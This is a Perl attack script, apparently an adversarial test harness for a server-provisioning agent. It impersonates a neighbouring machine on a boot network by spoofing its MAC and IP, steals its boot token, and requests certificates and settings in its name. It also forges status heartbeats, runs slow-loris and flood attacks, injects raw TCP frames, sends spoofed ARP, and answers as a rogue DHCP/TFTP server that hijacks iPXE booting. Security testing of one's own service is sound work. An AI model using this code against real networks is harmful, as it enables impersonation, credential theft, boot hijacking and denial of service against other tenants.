#!/usr/bin/perl
# What root on a leased server can try against a neighbour on the boot network.
#   thief.pl FOLDER AGENT MAC ADDRESS [until=STATUS:CALL] [only=CALL] [seconds=N] [slow=N] [flood=CONNECTIONS] [posts=N]
#     [frames=N] [claims] [answers]
# Takes the neighbour's MAC and ADDRESS, on a card and in a network namespace of their own, so that root stays logged
# in, and asks AGENT as the neighbour, and as itself, for all that a booting server may ask. Goes on until FOLDER/stop
# exists, those seconds are over, CALL was answered with STATUS, which it asks only as the neighbour for, or the posts
# are made.
#   only    makes that call and asks for the script, nothing else
#   slow    holds so many requests open that never come to an end, a byte a round
#   flood   posts pieces of a log over so many connections, as fast as they are taken; from when each of calls/ was
#           answered, or of its only call once
#   posts   ends the flood, and all, when at least so many were posted over all connections
#   frames  posts so many pieces of a log with no connection, each in a frame of the neighbour's card: where no answer
#           comes back to it there is no connection, and nothing else can be posted
#   claims  as itself it also says what only the agent and the neighbour may: ARP, DHCP, TFTP
#   answers answers the neighbour, too, when that asks: by DHCP as its server, which iPXE is to prefer to any other, and
#           by TFTP with a script that idles
# FOLDER: request.pem (a key of the thief's own, wrong for everybody) is there, and calls/NAME are more calls: a line
# METHOD PATH, headers, an empty line, the body. "loot" gets a line "AS CALL STATUS COUNT" for each answer (STATUS
# 0: none, or a frame that has no answer), bodies/AS-CALL-STATUS its last body, "token" the neighbour's boot token;
# "ended" says that the addresses are given back.
use strict;
use warnings;
use IO::Select;
use IO::Socket::INET;
use POSIX ':sys_wait_h';
use Time::HiRes;

my ($folder, $agent, $mac, $address, @ways) = @ARGV;
my %way = map { my ($name, $value) = split /=/, $_, 2; ($name => $value // 1) } @ways;
my ($last_status, $last_call) = split /:/, $way{until} // '';
my ($nic, $own_ip) = `ip -o route get $agent` =~ /dev (\S+).* src (\S+)/;
die "no way to $agent\n" if !$own_ip;
my $longest = $way{seconds} // 1500;  # should nobody come to stop it
my %answered;  # calls as the neighbour that ever were
$SIG{PIPE} = 'IGNORE';

sub told {
  my ($as, $call, $status, $body, $count) = @_;
  if ($status && defined $body) {
    open(my $file, '>', "$folder/bodies/$as-$call-$status") or die "bodies: $!\n";
    print $file $body;
  }
  open(my $loot, '>>', "$folder/loot") or die "loot: $!\n";
  printf $loot "%s %s %d %d\n", $as, $call, $status, $count // 1;
  close($loot);
  return $status;
}

sub connected {
  my ($from, $seconds) = @_;
  return IO::Socket::INET->new(PeerAddr => $agent, PeerPort => 8480, LocalAddr => $from, Timeout => $seconds);
}

# Status and body; 0 when nothing came.
sub http {
  my ($from, $method, $path, $body, @headers) = @_;
  my $to = connected($from, 2) or return (0, '');
  push @headers, 'Content-Length: ' . length $body if defined $body;
  print $to join("\r\n", "$method /boot/$path HTTP/1.0", "Host: $agent", @headers, '', defined $body ? $body : '');
  my ($answer, $ready) = ('', IO::Select->new($to));
  while ($ready->can_read(3)) {
    sysread($to, $answer, 65536, length $answer) or last;
  }
  my ($head, $rest) = split /\r\n\r\n/, $answer, 2;
  return ($head // '') =~ m{^HTTP/1.. ([0-9]+)} ? ($1, $rest) : (0, '');
}

sub text_of { my ($name) = @_; open(my $file, '<', $name) or return ''; local $/; return scalar <$file> }

sub more_calls {
  my @calls;
  for my $file (sort glob "$folder/calls/*") {
    my ($head, $body) = split /\n\n/, text_of($file), 2;
    my ($first, @headers) = split /\n/, $head;
    push @calls, [$file =~ s{.*/}{}r, split(/ /, $first), $body, @headers];
  }
  return @calls;
}

# The calls of docs/contracts.md, section 3, once each; true when it is to end.
sub ask {
  my ($as, $from, $round) = @_;
  my ($status, $script) = http($from, 'GET', 'script');
  told($as, 'script', $status, $script);
  if ($script =~ m{/boot/([A-Za-z0-9_-]+)/kernel}) {
    open(my $token, '>', "$folder/token") or die "token: $!\n";
    print $token $1;
  }
  my $token = text_of("$folder/token") or return 0;
  my $request = text_of("$folder/request.pem");
  my $wish = sprintf '%032x', $$ * 1000 + $round;
  my $disks = '{"disks":[],"skipped":[],"problem":null}';
  my $forged = 'percent=&message=forged';
  my @calls = (
    ['certificate', 'POST', 'certificate?purpose=install', $request], ['settings', 'GET', "settings?request=$wish"],
    ['production', 'POST', 'certificate?purpose=production', $request], ['erased', 'POST', 'erased', $disks],
    ['inspected', 'POST', 'inspected', '{}'], ['log', 'POST', "log?sequence=$round", "stolen\n"],
    ['beat-leap', 'POST', 'beat', "sequence=4000000000&phase=booted&$forged"],
    ['beat-installed', 'POST', 'beat', "sequence=9998&phase=installed&$forged"],
    ['beat-failed', 'POST', 'beat', "sequence=9999&phase=failed&$forged"], more_calls(),
    ['kernel', 'GET', 'kernel', undef, 'Range: bytes=0-1023'], ['transfer', 'GET', 'initrd/transfer']);
  @calls = grep { $_->[0] eq $way{only} } @calls if $way{only};
  for my $call (@calls) {
    my ($name, $method, $path, @more) = @$call;
    return 1 if !goes_on();
    my ($status, $body) = http($from, $method, "$token/$path", @more);
    told($as, $name, $status, $body);
    $answered{$name} = 1 if $status && $as eq 'stolen';
    return 1 if $last_status && $as eq 'stolen' && $status == $last_status && $name eq $last_call;
  }
  return 0;
}

# One that was ended is begun again; where the first gets no connection the others would get none either.
my @slow;
sub trickle {
  my $token = text_of("$folder/token");
  return if !$token || !$way{slow};
  for my $place (0 .. $way{slow} - 1) {
    next if $slow[$place] && defined syswrite($slow[$place], '.');
    $slow[$place] = connected($address, 1);
    told('stolen', 'slow', 0, undef, $slow[$place] ? 1 : 0);
    last if !$slow[$place];
    print { $slow[$place] } "POST /boot/$token/log?sequence=1 HTTP/1.0\r\nContent-Length: 65536\r\n\r\n";
  }
}

# One piece of a log, posted; all of one thief's are of one length.
sub piece {
  my ($token, $sequence) = @_;
  my $body = "stolen $sequence\n";
  return "POST /boot/$token/log?sequence=$sequence HTTP/1.1\r\nHost: $agent\r\nContent-Length: " . length($body)
    . "\r\n\r\n$body";
}

# Many requests at a time, over a connection that stays. Those that a connection took before it was hung up count, with
# what they were answered; they are told at the end.
sub flood {
  my ($number) = @_;
  my ($requests, $sequence, $posted, %answers) = (500, $number * 1_000_000, 0);
  my $share = ($way{posts} // 900_000) / $way{flood};
  while (goes_on() && $posted < $share) {
    my $token = text_of("$folder/token");
    my $to = $token ? connected($address, 2) : undef;
    if (!$to) { Time::HiRes::sleep(0.1); next }
    my $ready = IO::Select->new($to);
    while (goes_on() && $posted < $share) {
      my $text = join '', map { piece($token, $sequence + $_) } 1 .. $requests;
      my ($taken, $got, $answer) = (0, 0, '');
      while ($taken < length $text) {
        $taken += syswrite($to, $text, length($text) - $taken, $taken) // last;
      }
      my $made = int($taken / (length($text) / $requests));
      while ($got < $requests && $ready->can_read(3) && sysread($to, $answer, 65536, length $answer)) {
        $got = () = $answer =~ m{^HTTP/1.1 [0-9]+}mg;
      }
      $answers{$1}++ while $answer =~ m{^HTTP/1.1 ([0-9]+)}mg;
      $answers{0} += $made - $got if $made > $got;
      $posted += $made;
      $sequence += $requests;
      last if $got < $requests;
    }
  }
  told('stolen', 'flood', $_, undef, $answers{$_}) for sort keys %answers;
}

# The same where no connection comes about: what a frame can carry is said without one.
sub flood_with_frames {
  my $router;
  # It is known from when anything was asked as itself.
  until (($router) = `ip neighbour show $agent dev $nic` =~ /lladdr (\S+)/) {
    return if !goes_on();
    Time::HiRes::sleep(0.1);
  }
  my $head = bytes_of($router) . bytes_of($mac) . "\x08\x00";
  my $token = text_of("$folder/token") || 'unknown';
  my ($wire, $said) = (wire(0), 0);
  for my $sequence (1_000_001 .. 1_000_000 + $way{frames}) {
    my $port = 1024 + $sequence % 60_000;
    my $frame = $head . tcp_packet($address, $agent, $port, 8480, $sequence, piece($token, $sequence));
    # There is no room for it until others have left.
    until (syswrite($wire, $frame)) { Time::HiRes::sleep(0.001) }
    if (++$said == 1000 || $sequence == 1_000_000 + $way{frames}) {
      told('stolen', 'flood-frame', 0, undef, $said);
      $said = 0;
      last if !goes_on();
    }
  }
}

sub goes_on { return !-e "$folder/stop" && time - $^T < $longest }

sub bytes_of { my ($text) = @_; return pack 'H*', $text =~ tr/://dr }

# RFC 1071, of whole 16-bit words.
sub checksum {
  my $sum = unpack('%32n*', $_[0]);
  $sum = ($sum & 0xffff) + ($sum >> 16) for 1 .. 2;
  return ~$sum & 0xffff;
}

sub ip_packet {
  my ($from, $to, $protocol, $data) = @_;
  my @head = (0x4500, 20 + length $data, 1, 0, 0x4000 + $protocol, 0);
  my $ends = inet_aton($from) . inet_aton($to);
  $head[5] = checksum(pack('n6', @head) . $ends);
  return pack('n6', @head) . $ends . $data;
}

sub udp_packet {
  my ($from, $to, $from_port, $to_port, $data) = @_;
  return ip_packet($from, $to, 17, pack('n4', $from_port, $to_port, 8 + length $data, 0) . $data);
}

# Acknowledges and pushes (RFC 9293, 3.1), as within a connection.
sub tcp_packet {
  my ($from, $to, $from_port, $to_port, $number, $data) = @_;
  my @head = ($from_port, $to_port, $number, 1, 0x5018, 0xffff);
  my $length = 20 + length $data;
  my $ends = inet_aton($from) . inet_aton($to);
  my $sum = checksum($ends . pack('n4N2n4', 6, $length, @head, 0, 0) . $data . "\0" x ($length % 2));
  return ip_packet($from, $to, 6, pack('n2N2n4', @head, $sum, 0) . $data);
}

# Words of the agent and of the neighbour, said by this server's own card: nobody needs to have asked.
sub claim {
  my $own = bytes_of(text_of("/sys/class/net/$nic/address") =~ s/\s//gr);
  my ($all, $card) = ("\xff" x 6, bytes_of($mac));
  my $answer = $all . $own . pack('n3C2n', 0x0806, 1, 0x0800, 6, 4, 2) . $own;
  my $arp = sub { $answer . inet_aton($_[0]) . $all . inet_aton('255.255.255.255') };
  my $me = inet_aton($own_ip);
  my @frames = (
    ['arp', $arp->($address)], ['arp', $arp->($agent)],
    ['dhcp', $all . $own . "\x08\x00" . udp_packet($own_ip, '255.255.255.255', 67, 68, dhcp(2, 7, $card))],
    ['tftp', $card . $own . "\x08\x00" . udp_packet($own_ip, $address, 69, 1024, pack('n2', 3, 1) . '#!ipxe')],
    ['address', $all . $own . "\x08\x00" . udp_packet($address, $agent, 1024, 8480, 'as the neighbour')]);
  my $wire = wire(0);
  for my $frame (@frames) {
    syswrite($wire, $frame->[1]);
    told('own', "claim-$frame->[0]", 0);
  }
}

# AF_PACKET and SOCK_RAW, packet(7); with protocol 0 it only sends, with 3 it hears everything.
sub wire {
  my ($protocol) = @_;
  socket(my $wire, 17, 3, unpack('S', pack('n', $protocol))) or die "no raw socket: $!\n";
  my $index = text_of("/sys/class/net/$nic/ifindex");
  bind($wire, pack('SnlSCCa8', 17, $protocol, $index, 0, 0, 0, '')) or die "bind: $!\n";
  return $wire;
}

# A DHCP server's word (RFC 2131) for the neighbour's card: type 2 offers, 5 acknowledges; the boot file is here. Option
# 175 is iPXE's own (its dhcp.h): an offer of the highest priority, after which it waits for nobody else's boot file.
sub dhcp {
  my ($type, $exchange, $card) = @_;
  my $me = inet_aton($own_ip);
  my @fixed = (2, 1, 6, 0, $exchange, 0, 0x8000, 0, inet_aton($address), $me, 0, $card, 'thief', 0x63825363);
  return pack('C4NnnNa4a4Na6x74a128N', @fixed) . "\x35\x01" . chr($type) . "\x36\x04$me\x33\x04\x00\x00\x02\x58"
    . "\x01\x04\xff\xff\xff\x00\xaf\x06\x01\x01\x7f\xb0\x01\x01\xff";
}

# Hears on the wire itself: what the neighbour's card says to all, the card that has its MAC address takes for an echo
# (macvlan, private) and keeps from this server's own; and no firewall of this server's is in the way.
sub answer {
  my $own = bytes_of(text_of("/sys/class/net/$nic/address") =~ s/\s//gr);
  my ($card, $wire) = (bytes_of($mac), wire(3));
  # So that nobody says that the port is shut.
  my $port = IO::Socket::INET->new(Proto => 'udp', LocalAddr => $own_ip, LocalPort => 69);
  my $ready = IO::Select->new($wire);
  while (goes_on()) {
    # Shorter is neither ARP nor UDP.
    $ready->can_read(1) && (sysread($wire, my $frame, 2048) // 0) >= 42 or next;
    my ($from, $type, $protocol) = unpack('x6a6nx9C', $frame);
    next if $from ne $card;
    if ($type == 0x0806 && substr($frame, 38, 4) eq inet_aton($own_ip)) {
      my $here = pack('n3C2n', 0x0806, 1, 0x0800, 6, 4, 2) . $own . inet_aton($own_ip) . $card . inet_aton($address);
      syswrite($wire, $card . $own . $here);
    }
    next if $type != 0x0800 || $protocol != 17;
    my ($from_port, $to_port, $length) = unpack('x34n3', $frame);
    my $asked = substr($frame, 42, $length - 8);
    if ($to_port == 67 && $asked =~ /^\x01.{235}\x63\x82\x53\x63.*?\x35\x01([\x01\x03])/s) {
      my ($name, $answer) = $1 eq "\x01" ? ('offer', 2) : ('ack', 5);
      my $data = dhcp($answer, unpack('x4N', $asked), substr($asked, 28, 6));
      syswrite($wire, "\xff" x 6 . $own . "\x08\x00" . udp_packet($own_ip, '255.255.255.255', 67, 68, $data));
      told('own', "answer-$name", 0);
    } elsif ($to_port == 69 && $asked =~ /^\x00\x01/ && substr($frame, 0, 6) eq $own) {
      my $script = pack('n2', 3, 1) . "#!ipxe\necho a neighbour's script\n:again\nsleep 60\ngoto again\n";
      syswrite($wire, $card . $own . "\x08\x00" . udp_packet($own_ip, $address, 69, $from_port, $script));
      told('own', 'answer-tftp', 0);
    }
  }
}

sub as_the_neighbour {
  my @children;
  for (my $round = 1; goes_on(); $round++) {
    last if ask('stolen', $address, $round);
    # Not before: a flood uses up what the agent lets this source ask.
    my $waits = @children || !$way{only} && grep { !$answered{ $_->[0] } } more_calls();
    for my $number ($waits ? () : 1 .. $way{flood} // 0) {
      my $child = fork() // die "fork: $!\n";
      if (!$child) { flood($number); exit 0 }
      push @children, $child;
    }
    trickle();
    last if $way{posts} && @children && !grep { waitpid($_, WNOHANG) == 0 } @children;
    Time::HiRes::sleep(0.5);
  }
  waitpid $_, 0 for @children;
}

sub as_itself {
  for (my $round = 1; goes_on(); $round++) {
    claim() if $way{claims};
    ask('own', $own_ip, $round) if !$last_status;
    sleep 1;
  }
}

sub run { system(@_) == 0 or die "@_ ended with $?\n" }

if (($ENV{THIEF} // '') eq 'neighbour') {
  as_the_neighbour();
  exit 0;
}
mkdir "$folder/bodies";
unlink "$folder/stop", "$folder/ended", "$folder/loot", glob "$folder/bodies/*";
system('modprobe', '-q', 'macvlan');
run('ip', 'netns', 'add', 'thief');
my @card = ('name', 'stolen', 'address', $mac, 'netns', 'thief', 'type', 'macvlan', 'mode', 'private');
run('ip', 'link', 'add', 'link', $nic, @card);
run('ip', '-n', 'thief', 'address', 'add', "$address/24", 'dev', 'stolen');
run('ip', '-n', 'thief', 'link', 'set', 'stolen', 'up');
my @others;
for my $part (\&as_itself, $way{answers} ? \&answer : (), $way{frames} ? \&flood_with_frames : ()) {
  my $child = fork() // die "fork: $!\n";
  if (!$child) { $part->(); exit 0 }
  push @others, $child;
}
{
  local $ENV{THIEF} = 'neighbour';
  system('ip', 'netns', 'exec', 'thief', 'perl', $0, @ARGV);
}
kill 'TERM', @others;
waitpid $_, 0 for @others;
run('ip', 'netns', 'delete', 'thief');
open(my $ended, '>', "$folder/ended") or die "ended: $!\n";
